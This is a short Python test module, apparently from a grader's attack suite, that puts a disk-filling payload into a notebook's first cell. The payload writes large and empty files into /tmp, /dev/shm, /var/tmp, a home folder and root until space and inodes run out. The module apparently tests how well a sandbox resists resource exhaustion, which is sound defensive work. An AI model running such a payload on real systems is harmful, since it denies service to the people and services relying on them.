from __future__ import annotations

from nbformat import NotebookNode

from tests.graders.attacks.tools import first

WHY = "Every folder that can be written is filled, files and inodes alike."
FLAG = None

CODE = r"""
import os
for folder in ("/tmp", "/dev/shm", "/home/box", "/var/tmp", "/"):
    try:
        for number in range(6):
            with open(f"{folder}/flood{number}", "wb") as stream:
                for _ in range(8):
                    stream.write(bytes(10_000_000))
        for number in range(2000):
            open(f"{folder}/empty{number}", "w").close()
    except OSError:
        pass
"""


def attack(notebook: NotebookNode) -> None:
    first(notebook, CODE)
